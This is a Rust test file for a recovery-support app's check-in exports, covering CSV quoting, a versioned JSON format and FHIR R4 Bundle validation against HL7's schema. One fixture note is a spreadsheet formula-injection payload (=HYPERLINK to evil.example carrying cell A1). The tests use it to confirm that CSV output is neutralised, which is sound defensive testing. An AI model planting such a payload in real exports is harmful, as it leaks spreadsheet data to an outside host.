//! Check-in exports through the public API, on real store files: CSV read back with the `csv`
//! crate, JSON parsed and compared with values worked out by hand, and the FHIR Bundle checked
//! against HL7's FHIR R4 JSON schema (`tests/fhir/fhir.schema.json`, see the README there) and
//! against the rules of R4 the schema cannot express.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use chrono::{DateTime, NaiveDate, SecondsFormat, TimeZone, Utc};
use companion_core::{CheckIn, CheckInEdit, CheckinExportFormat, Error, Store};
use serde_json::{Value, json};
use uuid::Uuid;

mod common;

const QUESTIONNAIRE: &str = "https://iopcompanion.org/fhir/Questionnaire/daily-check-in";

fn d(y: i32, m: u32, day: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, day).unwrap()
}

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 8, 30, 0).unwrap()
}

fn instant(t: DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Millis, true)
}

const QUOTED_NOTE: &str = "Group helped, \"a lot\".\nSecond line; with a semicolon, and ünïcödé 🙂";
const FORMULA_NOTE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
const PLUS_NOTE: &str = "+1 day clean, @home";

/// Four check-ins: everything answered (a note that needs quoting), mood only, a formula-looking
/// note and emotion with sleep that is not a whole number of hours, and another formula start.
fn fixture() -> (tempfile::TempDir, Store, Vec<CheckIn>) {
    let dir = tempfile::tempdir().unwrap();
    let mut store = common::open(dir.path()).unwrap();
    let edits = [
        (
            d(2025, 3, 1),
            CheckInEdit {
                mood: Some(7),
                craving: Some(2),
                emotions: Some(vec!["tired".into(), "hopeful".into()]),
                sleep_hours: Some(7.5),
                used_today: Some(false),
                note: Some(QUOTED_NOTE.into()),
                clear: Vec::new(),
            },
        ),
        (
            d(2025, 3, 2),
            CheckInEdit {
                mood: Some(3),
                ..Default::default()
            },
        ),
        (
            d(2025, 3, 3),
            CheckInEdit {
                mood: Some(5),
                craving: Some(9),
                emotions: Some(vec!["-numb".into()]),
                sleep_hours: Some(6.0 + 20.0 / 60.0),
                used_today: Some(true),
                note: Some(FORMULA_NOTE.into()),
                clear: Vec::new(),
            },
        ),
        (
            d(2025, 3, 5),
            CheckInEdit {
                mood: Some(10),
                craving: Some(0),
                sleep_hours: Some(0.0),
                note: Some(PLUS_NOTE.into()),
                ..Default::default()
            },
        ),
    ];
    let checkins = edits
        .iter()
        .map(|(date, edit)| store.record_checkin(*date, edit).unwrap())
        .collect();
    (dir, store, checkins)
}

fn export(store: &Store, format: CheckinExportFormat) -> String {
    store.export_checkins(format, None, None, now()).unwrap()
}

// ---------------------------------------------------------------------------------------------
// CSV

fn csv_rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

#[test]
fn csv_reads_back_with_quoting_and_formulas_neutralised() {
    let (_dir, store, c) = fixture();
    let text = export(&store, CheckinExportFormat::Csv);
    assert!(text.starts_with(
        "date,mood,craving,emotions,sleep_hours,used_today,note,created_at,updated_at\r\n"
    ));
    assert!(text.ends_with("\r\n"));

    let (header, rows) = csv_rows(&text);
    assert_eq!(
        header,
        [
            "date",
            "mood",
            "craving",
            "emotions",
            "sleep_hours",
            "used_today",
            "note",
            "created_at",
            "updated_at"
        ]
    );
    let times = |i: usize| [instant(c[i].created_at), instant(c[i].updated_at)];
    let expected: Vec<Vec<String>> = [
        (
            ["2025-03-01", "7", "2", "hopeful;tired", "7.5", "false"],
            QUOTED_NOTE.to_owned(),
            times(0),
        ),
        (["2025-03-02", "3", "", "", "", ""], String::new(), times(1)),
        (
            ["2025-03-03", "5", "9", "'-numb", "6.33", "true"],
            format!("'{FORMULA_NOTE}"),
            times(2),
        ),
        (
            ["2025-03-05", "10", "0", "", "0", ""],
            format!("'{PLUS_NOTE}"),
            times(3),
        ),
    ]
    .into_iter()
    .map(|(cells, note, [created, updated])| {
        let mut row: Vec<String> = cells.iter().map(|s| s.to_string()).collect();
        row.extend([note, created, updated]);
        row
    })
    .collect();
    assert_eq!(rows, expected);

    // Notes with commas, quotes and line breaks come back exactly; formula-looking text comes
    // back with the one leading apostrophe.
    assert_eq!(rows[0][6], QUOTED_NOTE);
    assert_eq!(rows[2][6].strip_prefix('\''), Some(FORMULA_NOTE));
    // No cell a spreadsheet would run.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
    }
}

#[test]
fn csv_of_an_empty_store_is_the_header_only() {
    let dir = tempfile::tempdir().unwrap();
    let store = common::open(dir.path()).unwrap();
    assert_eq!(
        export(&store, CheckinExportFormat::Csv),
        "date,mood,craving,emotions,sleep_hours,used_today,note,created_at,updated_at\r\n"
    );
}

// ---------------------------------------------------------------------------------------------
// JSON

#[test]
fn json_is_the_versioned_document() {
    let (_dir, store, c) = fixture();
    let text = export(&store, CheckinExportFormat::Json);
    let value: Value = serde_json::from_str(&text).unwrap();
    let times = |i: usize| (instant(c[i].created_at), instant(c[i].updated_at));
    let (c0, u0) = times(0);
    let (c1, u1) = times(1);
    let (c2, u2) = times(2);
    let (c3, u3) = times(3);
    assert_eq!(
        value,
        json!({
            "format": "iop-companion-checkins",
            "version": 1,
            "exported_at": "2026-11-22T08:30:00.000Z",
            "checkins": [
                {"date": "2025-03-01", "mood": 7, "craving": 2, "emotions": ["hopeful", "tired"],
                 "sleep_hours": 7.5, "used_today": false, "note": QUOTED_NOTE,
                 "created_at": c0, "updated_at": u0},
                {"date": "2025-03-02", "mood": 3, "craving": null, "emotions": [],
                 "sleep_hours": null, "used_today": null, "note": null,
                 "created_at": c1, "updated_at": u1},
                {"date": "2025-03-03", "mood": 5, "craving": 9, "emotions": ["-numb"],
                 "sleep_hours": 6.33, "used_today": true, "note": FORMULA_NOTE,
                 "created_at": c2, "updated_at": u2},
                {"date": "2025-03-05", "mood": 10, "craving": 0, "emotions": [],
                 "sleep_hours": 0.0, "used_today": null, "note": PLUS_NOTE,
                 "created_at": c3, "updated_at": u3},
            ]
        })
    );
    // Keys in a fixed order, so the same data always gives the same bytes.
    assert!(text.starts_with("{\n  \"format\": \"iop-companion-checkins\",\n  \"version\": 1,"));
    assert_eq!(text, export(&store, CheckinExportFormat::Json));
}

#[test]
fn json_of_an_empty_store_has_no_checkins() {
    let dir = tempfile::tempdir().unwrap();
    let store = common::open(dir.path()).unwrap();
    let value: Value = serde_json::from_str(&export(&store, CheckinExportFormat::Json)).unwrap();
    assert_eq!(value["checkins"], json!([]));
    assert_eq!(value["version"], 1);
}

// ---------------------------------------------------------------------------------------------
// FHIR

/// HL7's JSON schema for FHIR R4 (every resource and data type, `additionalProperties: false`
/// throughout, so a misspelt or invented element fails), compiled once: as published (any
/// resource, by `resourceType`), and rooted at single definitions, whose errors point at the
/// element at fault rather than at "none of the resource types matched".
struct R4 {
    any: jsonschema::Validator,
    definitions: BTreeMap<&'static str, jsonschema::Validator>,
}

static FHIR_R4: LazyLock<R4> = LazyLock::new(|| {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fhir/fhir.schema.json");
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let any = jsonschema::validator_for(&schema).unwrap();
    let definitions = ["Bundle", "Questionnaire", "QuestionnaireResponse"]
        .into_iter()
        .map(|name| {
            let mut rooted = schema.clone();
            let root = rooted.as_object_mut().unwrap();
            root.remove("oneOf");
            root.remove("discriminator");
            root.insert("$ref".into(), json!(format!("#/definitions/{name}")));
            (name, jsonschema::validator_for(&rooted).unwrap())
        })
        .collect();
    R4 { any, definitions }
});

/// Where and why `value` is not valid FHIR R4 as a `definition` (a resource type), empty when
/// it is; the published schema must agree.
fn schema_errors(value: &Value, definition: &str) -> Vec<String> {
    let errors: Vec<String> = FHIR_R4.definitions[definition]
        .iter_errors(value)
        // Masked: a failing test prints where and why, not a participant's text.
        .map(|e| format!("{}: {}", e.instance_path(), e.masked()))
        .collect();
    assert_eq!(FHIR_R4.any.is_valid(value), errors.is_empty());
    errors
}

fn assert_valid_r4(bundle: &Value) {
    let mut errors = schema_errors(bundle, "Bundle");
    for entry in bundle["entry"].as_array().unwrap() {
        let resource = &entry["resource"];
        let kind = resource["resourceType"].as_str().unwrap();
        errors.extend(schema_errors(resource, kind));
    }
    assert!(errors.is_empty(), "not valid FHIR R4: {errors:#?}");
    assert_r4_rules(bundle);
}

/// The R4 rules the JSON schema leaves out (it encodes types and names, not minimum
/// cardinalities or invariants), for the elements this export uses.
fn assert_r4_rules(bundle: &Value) {
    assert_eq!(bundle["resourceType"], "Bundle");
    // Bundle.type 1..1.
    assert_eq!(bundle["type"], "collection");
    let entries = bundle["entry"].as_array().unwrap();
    let mut full_urls = BTreeSet::new();
    for entry in entries {
        // bdl-7: fullUrl unique; here urn:uuid: names.
        let url = entry["fullUrl"].as_str().unwrap();
        let uuid = Uuid::parse_str(url.strip_prefix("urn:uuid:").unwrap()).unwrap();
        assert_eq!(uuid.get_version_num(), 5);
        assert!(full_urls.insert(url.to_owned()), "duplicate fullUrl {url}");
        let resource = &entry["resource"];
        // No id, so nothing to disagree with the fullUrl (bdl-8 and the fullUrl rule).
        assert!(resource.get("id").is_none());
    }
    for q in resources(bundle, "Questionnaire") {
        // Questionnaire.status 1..1; que-0: name is computer-friendly.
        assert!(q["status"].is_string());
        let name = q["name"].as_str().unwrap();
        assert!(name.starts_with(|c: char| c.is_ascii_uppercase()));
        assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
        let mut link_ids = BTreeSet::new();
        for item in q["item"].as_array().unwrap() {
            // item.linkId 1..1 and unique (que-2); item.type 1..1.
            assert!(link_ids.insert(item["linkId"].as_str().unwrap()));
            assert!(item["type"].is_string());
        }
    }
    for r in resources(bundle, "QuestionnaireResponse") {
        // QuestionnaireResponse.status 1..1; item.linkId 1..1.
        assert!(r["status"].is_string());
        for item in r["item"].as_array().unwrap() {
            assert!(item["linkId"].is_string());
            // qrs-1: answers or nested items, not both; every answer has exactly one value[x].
            assert!(item.get("item").is_none());
            for answer in item["answer"].as_array().unwrap() {
                let keys: Vec<&String> = answer.as_object().unwrap().keys().collect();
                assert_eq!(keys.len(), 1);
                assert!(keys[0].starts_with("value"));
            }
        }
    }
}

fn resources<'a>(bundle: &'a Value, kind: &str) -> Vec<&'a Value> {
    bundle["entry"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| &e["resource"])
        .filter(|r| r["resourceType"] == kind)
        .collect()
}

fn fhir(store: &Store) -> Value {
    serde_json::from_str(&export(store, CheckinExportFormat::Fhir)).unwrap()
}

/// The `value[x]` an answer to an item of this Questionnaire type carries (R4's table of
/// `QuestionnaireResponse.item.answer.value[x]` by `Questionnaire.item.type`).
fn value_key(item_type: &str) -> &'static str {
    match item_type {
        "boolean" => "valueBoolean",
        "decimal" => "valueDecimal",
        "integer" => "valueInteger",
        "date" => "valueDate",
        "string" | "text" => "valueString",
        other => panic!("the export does not use item type {other}"),
    }
}

#[test]
fn fhir_bundle_is_valid_r4_and_the_responses_follow_the_questionnaire() {
    let (_dir, store, c) = fixture();
    let bundle = fhir(&store);
    assert_valid_r4(&bundle);
    assert_eq!(bundle["timestamp"], "2026-11-22T08:30:00.000Z");

    let entries = bundle["entry"].as_array().unwrap();
    assert_eq!(entries.len(), 1 + c.len());
    assert_eq!(entries[0]["resource"]["resourceType"], "Questionnaire");
    let questionnaires = resources(&bundle, "Questionnaire");
    let responses = resources(&bundle, "QuestionnaireResponse");
    assert_eq!(questionnaires.len(), 1);
    assert_eq!(responses.len(), c.len());

    let q = questionnaires[0];
    assert_eq!(q["url"], QUESTIONNAIRE);
    assert_eq!(q["version"], "1");
    assert_eq!(q["status"], "active");
    let items: Vec<&Value> = q["item"].as_array().unwrap().iter().collect();
    let shape: Vec<(&str, &str, bool, bool)> = items
        .iter()
        .map(|i| {
            (
                i["linkId"].as_str().unwrap(),
                i["type"].as_str().unwrap(),
                i["required"].as_bool().unwrap_or(false),
                i["repeats"].as_bool().unwrap_or(false),
            )
        })
        .collect();
    assert_eq!(
        shape,
        [
            ("date", "date", true, false),
            ("mood", "integer", true, false),
            ("craving", "integer", false, false),
            ("emotions", "string", false, true),
            ("sleep-hours", "decimal", false, false),
            ("used-today", "boolean", false, false),
            ("note", "text", false, false),
        ]
    );
    // The scales, as R4's minValue / maxValue extensions.
    assert_eq!(
        items[1]["extension"],
        json!([
            {"url": "http://hl7.org/fhir/StructureDefinition/minValue", "valueInteger": 1},
            {"url": "http://hl7.org/fhir/StructureDefinition/maxValue", "valueInteger": 10},
        ])
    );
    let by_link: BTreeMap<&str, &Value> = items
        .iter()
        .map(|i| (i["linkId"].as_str().unwrap(), *i))
        .collect();
    let order: Vec<&str> = items
        .iter()
        .map(|i| i["linkId"].as_str().unwrap())
        .collect();

    for (r, checkin) in responses.iter().zip(&c) {
        assert_eq!(r["status"], "completed");
        assert_eq!(r["questionnaire"], format!("{QUESTIONNAIRE}|1"));
        assert_eq!(r["authored"], instant(checkin.updated_at));
        let answered: Vec<&str> = r["item"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["linkId"].as_str().unwrap())
            .collect();
        // In the Questionnaire's order, every required item answered.
        let positions: Vec<usize> = answered
            .iter()
            .map(|l| {
                order
                    .iter()
                    .position(|o| o == l)
                    .expect("linkId in the Questionnaire")
            })
            .collect();
        assert!(positions.windows(2).all(|w| w[0] < w[1]));
        for (link, item) in &by_link {
            if item["required"] == true {
                assert!(answered.contains(link), "{link} unanswered");
            }
        }
        for item in r["item"].as_array().unwrap() {
            let q_item = by_link[item["linkId"].as_str().unwrap()];
            assert_eq!(item["text"], q_item["text"]);
            let answers = item["answer"].as_array().unwrap();
            assert!(!answers.is_empty());
            assert!(answers.len() == 1 || q_item["repeats"] == true);
            let key = value_key(q_item["type"].as_str().unwrap());
            for a in answers {
                assert!(a.get(key).is_some(), "{a} to a {} item", q_item["type"]);
            }
        }
    }

    // The values, worked out by hand from the fixture.
    let answers = |r: &Value| -> Vec<(String, Value)> {
        r["item"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| {
                (
                    i["linkId"].as_str().unwrap().to_owned(),
                    i["answer"].clone(),
                )
            })
            .collect()
    };
    let pairs = |list: Vec<(&str, Value)>| -> Vec<(String, Value)> {
        list.into_iter().map(|(k, v)| (k.to_owned(), v)).collect()
    };
    assert_eq!(
        answers(responses[0]),
        pairs(vec![
            ("date", json!([{"valueDate": "2025-03-01"}])),
            ("mood", json!([{"valueInteger": 7}])),
            ("craving", json!([{"valueInteger": 2}])),
            (
                "emotions",
                json!([{"valueString": "hopeful"}, {"valueString": "tired"}])
            ),
            ("sleep-hours", json!([{"valueDecimal": 7.5}])),
            ("used-today", json!([{"valueBoolean": false}])),
            ("note", json!([{"valueString": QUOTED_NOTE}])),
        ])
    );
    assert_eq!(
        answers(responses[1]),
        pairs(vec![
            ("date", json!([{"valueDate": "2025-03-02"}])),
            ("mood", json!([{"valueInteger": 3}])),
        ])
    );
    // FHIR is not a spreadsheet: text goes as it was written.
    assert_eq!(
        answers(responses[2]),
        pairs(vec![
            ("date", json!([{"valueDate": "2025-03-03"}])),
            ("mood", json!([{"valueInteger": 5}])),
            ("craving", json!([{"valueInteger": 9}])),
            ("emotions", json!([{"valueString": "-numb"}])),
            ("sleep-hours", json!([{"valueDecimal": 6.33}])),
            ("used-today", json!([{"valueBoolean": true}])),
            ("note", json!([{"valueString": FORMULA_NOTE}])),
        ])
    );
    assert_eq!(
        answers(responses[3])[2],
        pairs(vec![("craving", json!([{"valueInteger": 0}]))])[0]
    );
}

#[test]
fn fhir_names_are_stable_and_the_same_data_gives_the_same_bytes() {
    let (_dir, store, c) = fixture();
    let text = export(&store, CheckinExportFormat::Fhir);
    assert_eq!(text, export(&store, CheckinExportFormat::Fhir));
    let bundle: Value = serde_json::from_str(&text).unwrap();
    let namespace = Uuid::new_v5(&Uuid::NAMESPACE_URL, b"https://iopcompanion.org/fhir/");
    let urn = |name: String| format!("urn:uuid:{}", Uuid::new_v5(&namespace, name.as_bytes()));
    let entries = bundle["entry"].as_array().unwrap();
    assert_eq!(
        entries[0]["fullUrl"],
        urn(format!("Questionnaire/{QUESTIONNAIRE}|1"))
    );
    for (entry, checkin) in entries[1..].iter().zip(&c) {
        let name = format!(
            "QuestionnaireResponse/{}/{}",
            checkin.date,
            checkin.created_at.timestamp_millis()
        );
        assert_eq!(entry["fullUrl"], urn(name));
    }

    // Editing a check-in keeps its name and moves `authored`.
    let mut store = store;
    let edited = store
        .record_checkin(
            d(2025, 3, 2),
            &CheckInEdit {
                craving: Some(4),
                ..Default::default()
            },
        )
        .unwrap();
    let after = fhir(&store);
    assert_valid_r4(&after);
    assert_eq!(after["entry"][2]["fullUrl"], entries[2]["fullUrl"]);
    assert_eq!(
        after["entry"][2]["resource"]["authored"],
        instant(edited.updated_at)
    );
}

#[test]
fn fhir_of_an_empty_store_is_a_valid_bundle_with_the_questionnaire_only() {
    let dir = tempfile::tempdir().unwrap();
    let store = common::open(dir.path()).unwrap();
    let bundle = fhir(&store);
    assert_valid_r4(&bundle);
    let entries = bundle["entry"].as_array().unwrap();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0]["resource"]["resourceType"], "Questionnaire");
}

/// The schema is not a rubber stamp: what a typo, an invented element or a wrong type would
/// produce is refused, at the element at fault.
#[test]
fn the_r4_schema_refuses_what_is_not_fhir() {
    let (_dir, store, _) = fixture();
    let good = fhir(&store);
    let response = &good["entry"][1]["resource"];
    assert!(schema_errors(response, "QuestionnaireResponse").is_empty());

    type Mutation = fn(&mut Value);
    let cases: [(&str, Mutation, &str); 7] = [
        (
            "misspelt value[x]",
            |r| r["item"][1]["answer"][0] = json!({"valueInt": 7}),
            "/item/1/answer/0",
        ),
        ("invented element", |r| r["mood"] = json!(7), ""),
        (
            "misspelt element",
            |r| {
                let r = r.as_object_mut().unwrap();
                let v = r.remove("authored").unwrap();
                r.insert("authoredAt".into(), v);
            },
            "",
        ),
        (
            "integer as text",
            |r| r["item"][1]["answer"][0] = json!({"valueInteger": "7"}),
            "/item/1/answer/0/valueInteger",
        ),
        (
            "one answer where R4 has a list",
            |r| r["item"][1]["answer"] = json!({"valueInteger": 7}),
            "/item/1/answer",
        ),
        (
            "date that is not a date",
            |r| r["item"][0]["answer"][0] = json!({"valueDate": "1/3/2025"}),
            "/item/0/answer/0/valueDate",
        ),
        ("status as a number", |r| r["status"] = json!(5), "/status"),
    ];
    for (what, mutate, at) in cases {
        let mut bad = response.clone();
        mutate(&mut bad);
        let errors = schema_errors(&bad, "QuestionnaireResponse");
        assert!(
            errors.iter().any(|e| e.starts_with(&format!("{at}: "))),
            "{what}: {errors:#?}"
        );
    }

    // In the Bundle too: a resource type R4 does not have, an instant without a zone.
    let mut bad = good.clone();
    bad["entry"][1]["resource"]["resourceType"] = json!("QuestionnaireReply");
    assert!(!schema_errors(&bad, "Bundle").is_empty());
    let mut bad = good.clone();
    bad["timestamp"] = json!("2026-11-22T08:30:00");
    let errors = schema_errors(&bad, "Bundle");
    assert!(
        errors.iter().any(|e| e.starts_with("/timestamp: ")),
        "{errors:#?}"
    );
}

// ---------------------------------------------------------------------------------------------
// Ranges

#[test]
fn a_date_range_filters_every_format() {
    let (_dir, store, _) = fixture();
    let range = |format| {
        store
            .export_checkins(format, Some(d(2025, 3, 2)), Some(d(2025, 3, 3)), now())
            .unwrap()
    };
    let (_, rows) = csv_rows(&range(CheckinExportFormat::Csv));
    let dates: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(dates, ["2025-03-02", "2025-03-03"]);

    let value: Value = serde_json::from_str(&range(CheckinExportFormat::Json)).unwrap();
    let dates: Vec<&Value> = value["checkins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| &c["date"])
        .collect();
    assert_eq!(dates, [&json!("2025-03-02"), &json!("2025-03-03")]);

    let bundle: Value = serde_json::from_str(&range(CheckinExportFormat::Fhir)).unwrap();
    assert_valid_r4(&bundle);
    let dates: Vec<&Value> = resources(&bundle, "QuestionnaireResponse")
        .iter()
        .map(|r| &r["item"][0]["answer"][0]["valueDate"])
        .collect();
    assert_eq!(dates, [&json!("2025-03-02"), &json!("2025-03-03")]);

    // Open on one side.
    let from: Value = serde_json::from_str(
        &store
            .export_checkins(CheckinExportFormat::Json, Some(d(2025, 3, 4)), None, now())
            .unwrap(),
    )
    .unwrap();
    assert_eq!(from["checkins"].as_array().unwrap().len(), 1);
}

#[test]
fn a_range_that_starts_after_it_ends_is_refused() {
    let (_dir, store, _) = fixture();
    for format in [
        CheckinExportFormat::Csv,
        CheckinExportFormat::Json,
        CheckinExportFormat::Fhir,
    ] {
        let err = store
            .export_checkins(format, Some(d(2025, 3, 3)), Some(d(2025, 3, 2)), now())
            .unwrap_err();
        assert!(
            matches!(
                err,
                Error::InvalidInput {
                    field: "date range",
                    ..
                }
            ),
            "{err}"
        );
    }
}

#[test]
fn formats_name_their_files() {
    assert_eq!(CheckinExportFormat::Csv.extension(), "csv");
    assert_eq!(CheckinExportFormat::Json.extension(), "json");
    assert_eq!(CheckinExportFormat::Fhir.extension(), "json");
    assert_eq!(CheckinExportFormat::Csv.media_type(), "text/csv");
    assert_eq!(
        CheckinExportFormat::Fhir.media_type(),
        "application/fhir+json"
    );
}

#[test]
fn files_are_offered_under_dated_names_that_say_nothing_of_treatment() {
    let today = chrono::NaiveDate::from_ymd_opt(2026, 12, 4).unwrap();
    assert_eq!(
        CheckinExportFormat::Csv.file_name(today),
        "checkins-2026-12-04.csv"
    );
    assert_eq!(
        CheckinExportFormat::Fhir.file_name(today),
        "checkins-2026-12-04.json"
    );
    assert_eq!(
        companion_core::backup_file_name(today),
        "companion-2026-12-04.backup"
    );
}
